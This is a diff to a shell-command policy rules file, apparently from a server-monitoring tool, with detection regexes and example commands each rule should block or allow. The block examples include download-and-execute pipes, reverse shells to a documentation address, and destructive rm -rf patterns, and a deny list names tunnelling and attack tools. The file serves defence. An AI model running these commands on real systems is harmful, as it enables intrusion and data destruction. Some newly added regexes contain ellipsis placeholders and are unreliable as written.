@@ -2,6 +2,17 @@
 
 from server_monitor.tasks.policy.rules.rule import Rule, match
 
+_OPAQUE_MATCHES = {
+    "target": (
+        match(
+            "systemctl service",
+            r"{w}(stop|disable|mask|kill)\b.*…|{w}…\S* (stop|disable)",
+            "stops services that are not known",
+        ),
+        match("userdel deluser", r"…", "removes accounts that are not known"),
+    ),
+}
+
 RULES = (
     Rule(
         "rce.download_to_interpreter",
@@ -13,15 +24,25 @@ RULES = (
             "curl http://x/i.sh | sh",
             "wget -qO- http://x | sudo bash",
             "bash <(curl -s http://x)",
-            "eval \"$(curl -s http://x)\"",
+            'eval "$(curl -s http://x)"',
             "curl -o /tmp/x http://x; sh /tmp/x",
-            "python3 -c \"$(curl http://x)\"",
+            'python3 -c "$(curl http://x)"',
             "source <(wget -O- http://x)",
         ),
-        ("curl http://x | jq .", "wget http://x/a.tgz", "curl -s http://x | grep ok", "bash deploy.sh", "curl -o x.sh http://x"),
+        (
+            "curl http://x | jq .",
+            "wget http://x/a.tgz",
+            "curl -s http://x | grep ok",
+            "bash deploy.sh",
+            "curl -o x.sh http://x",
+        ),
         references=("MITRE ATT&CK T1059, T1105",),
         matches=(
-            match("pip pip3 pipx", r"{w}install\b.*(--index-url|--extra-index-url|-i) ?=?http://", "installs code over an unguarded connection"),
+            match(
+                "pip pip3 pipx",
+                r"{w}install\b.*(--index-url|--extra-index-url|-i) ?=?http://",
+                "installs code over an unguarded connection",
+            ),
             match("npx bunx uvx pnpx dlx", r"https?://", "runs code from the network"),
             match("mshta regsvr32", r"https?://", "runs code from the network"),
             match("node npm npx", r"$^", ""),
@@ -42,22 +63,36 @@ RULES = (
             "nc -e /bin/sh 192.0.2.1 9",
             "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 9 > /tmp/f",
             "socat TCP:192.0.2.1:9 EXEC:/bin/bash",
-            "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"192.0.2.1\",9));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\"])'",
+            'python3 -c \'import socket,subprocess,os;s=socket.socket();s.connect(("192.0.2.1",9));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh"])\'',
             "ncat --exec /bin/bash 192.0.2.1 9",
         ),
         ("nc -zv 192.0.2.1 22", "echo > /dev/tcp/192.0.2.1/22", "socat -V", "telnet 192.0.2.1 25", "ncat -l 9000 > f"),
         references=("MITRE ATT&CK T1059.004",),
         matches=(
-            match("nc ncat nc.traditional cryptcat busybox-nc", r"{w}(-\w*[ec]\w*|--exec|--sh-exec|--lua-exec)( |=)\S*", "gives a program to the network", unless=r"{w}(-C|-\w*z)"),
+            match(
+                "nc ncat nc.traditional cryptcat busybox-nc",
+                r"{w}(-\w*[ec]\w*|--exec|--sh-exec|--lua-exec)( |=)\S*",
+                "gives a program to the network",
+                unless=r"{w}(-C|-\w*z)",
+            ),
             match("socat", r"(?i)(exec|system|shell):", "gives a program to the network"),
             match("xterm", r"-display \S+:\d", "shows a terminal elsewhere"),
             match("openssl", r"$^", ""),
             match("sshd", r"{w}(-p|-o)", "starts another SSH server"),
-            match("telnetd in.telnetd rshd tftpd ngrok bore frpc chisel ligolo gsocket gs-netcat gs-sh sliver-server msfconsole msfvenom meterpreter empire pwncat", r"", "opens the host to the network", unless=r"--help|--version"),
-            match("ssh autossh", r"{w}-\w*R ?\S*\d+:", "opens a port of this host at the other end"),
+            match(
+                "telnetd in.telnetd rshd tftpd ngrok bore frpc chisel ligolo gsocket gs-netcat gs-sh sliver-server msfconsole msfvenom meterpreter empire pwncat",
+                r"",
+                "opens the host to the network",
+                unless=r"--help|--version",
+            ),
             match("script", r"$^", ""),
             match("tmate", r"", "shares a terminal with the network", unless=r"-V"),
-            match("cloudflared localtunnel lt pagekite", r"{w}tunnel|--port|\d", "opens the host to the network", unless=r"--version|{w}list"),
+            match(
+                "cloudflared localtunnel lt pagekite",
+                r"{w}tunnel|--port|\d",
+                "opens the host to the network",
+                unless=r"--version|{w}list",
+            ),
         ),
     ),
     Rule(
@@ -74,7 +109,13 @@ RULES = (
             "PATH=/tmp:$PATH ls",
             "GIT_SSH_COMMAND='sh -c x' git fetch",
         ),
-        ("LANG=C ls", "PATH=$PATH:/opt/app/bin app", "env FOO=1 make", "JAVA_HOME=/opt/jdk java -version", "export EDITOR=vim"),
+        (
+            "LANG=C ls",
+            "PATH=$PATH:/opt/app/bin app",
+            "env FOO=1 make",
+            "JAVA_HOME=/opt/jdk java -version",
+            "export EDITOR=vim",
+        ),
         references=("ld.so(8)",),
         ruling="needs_approval",
     ),
@@ -112,36 +153,73 @@ RULES = (
             stops,
             passes,
             ruling="needs_approval",
+            matches=_OPAQUE_MATCHES.get(name, ()),
         )
         for name, text, stops, passes in (
             (
                 "command_name",
                 "The name of a command is not known before it runs.",
-                ("$(cat /tmp/x) -rf", "read c < /tmp/f; $c", "\"$(head -1 list)\" now", "cat list | while read c; do $c; done", "x=$(date); $x"),
-                ("ls", "c=ls; $c", "\"$HOME/bin/x\"", "/opt/app/bin/run", "cmd=$(command -v jq); $cmd ."),
+                (
+                    "$(cat /tmp/x) -rf",
+                    "read c < /tmp/f; $c",
+                    '"$(head -1 list)" now',
+                    "cat list | while read c; do $c; done",
+                    "x=$(date); $x",
+                ),
+                ("ls", "c=ls; $c", '"$HOME/bin/x"', "/opt/app/bin/run", "cmd=$(command -v jq); $cmd ."),
             ),
             (
                 "eval",
                 "A text that runs as a script is not known before it runs.",
-                ("eval \"$(cat /opt/x)\"", "sh -c \"$(cat list)\"", "x=$(cat f); eval $x", "eval \"$(docker inspect web)\"", "bash -c \"$(xclip -o)\""),
-                ("eval \"$(ssh-agent -s)\"", "eval ls", "sh -c 'echo hi'", "source ~/.bashrc", "eval \"$(dircolors)\""),
+                (
+                    'eval "$(cat /opt/x)"',
+                    'sh -c "$(cat list)"',
+                    "x=$(cat f); eval $x",
+                    'eval "$(docker inspect web)"',
+                    'bash -c "$(xclip -o)"',
+                ),
+                ('eval "$(ssh-agent -s)"', "eval ls", "sh -c 'echo hi'", "source ~/.bashrc", 'eval "$(dircolors)"'),
             ),
             (
                 "stdin_to_shell",
                 "A shell reads commands from somewhere that is not known.",
-                ("cat /opt/script | sh", "bash < /opt/x", "docker exec web cat x | bash", "sed s/a/b/ /opt/f | sh", "zcat x.gz | bash -s"),
+                (
+                    "cat /opt/script | sh",
+                    "bash < /opt/x",
+                    "docker exec web cat x | bash",
+                    "sed s/a/b/ /opt/f | sh",
+                    "zcat x.gz | bash -s",
+                ),
                 ("echo ls | sh", "sh script.sh", "bash <<'E'\nls\nE", "printf 'ls\\n' | sh", "cat f | grep x"),
             ),
             (
                 "target",
                 "What is deleted, ended or overwritten is not known before the command runs.",
-                ("rm -rf \"$(cat list)\"", "cat list | xargs rm -rf", "rm -rf /$(hostname)", "chmod -R 777 $(cat dirs)", "find / -name x.conf -delete"),
-                ("rm -f \"$(mktemp)\"", "ls $(cat list)", "rm -rf /tmp/build-$(date +%s)", "kill $(cat /run/app.pid)", "find . -name '*.o' | xargs rm -f"),
+                (
+                    'rm -rf "$(cat list)"',
+                    "cat list | xargs rm -rf",
+                    "rm -rf /$(hostname)",
+                    "chmod -R 777 $(cat dirs)",
+                    "find / -name x.conf -delete",
+                ),
+                (
+                    'rm -f "$(mktemp)"',
+                    "ls $(cat list)",
+                    "rm -rf /tmp/build-$(date +%s)",
+                    "kill $(cat /run/app.pid)",
+                    "find . -name '*.o' | xargs rm -f",
+                ),
             ),
             (
                 "interpreter",
                 "An interpreter runs code that is not known or not understood.",
-                ("cat /opt/x.py | python3", "python3 < /opt/x.py", "perl < /opt/x", "ruby < /opt/x", "python3 -c \"$(cat x)\""),
+                (
+                    "cat /opt/x.py | python3",
+                    "python3 < /opt/x.py",
+                    "perl < /opt/x",
+                    "ruby < /opt/x",
+                    'python3 -c "$(cat x)"',
+                ),
                 ("python3 script.py", "node app.js", "perl -v", "python3 -m venv x", "ruby --version"),
             ),
             (
@@ -149,6 +227,12 @@ RULES = (
                 "Runs a script from a directory where every account can write.",
                 ("sh /tmp/x.sh", "/tmp/run", "bash /var/tmp/a", "cd /tmp && ./x", "python3 /dev/shm/x.py"),
                 ("sh ./x.sh", "/opt/app/run", "bash deploy.sh", "python3 app.py", "ls /tmp"),
+            ),
+            (
+                "syntax",
+                "No shell can read the whole of the command.",
+                ("echo 'x", "if true; then ls", "ls )", "echo $(ls", "rm /tmp/x; for"),
+                ("echo 'x'", "if true; then ls; fi", "(ls)", "echo $(ls)", "for i in 1; do ls; done"),
             ),
             (
                 "limit",
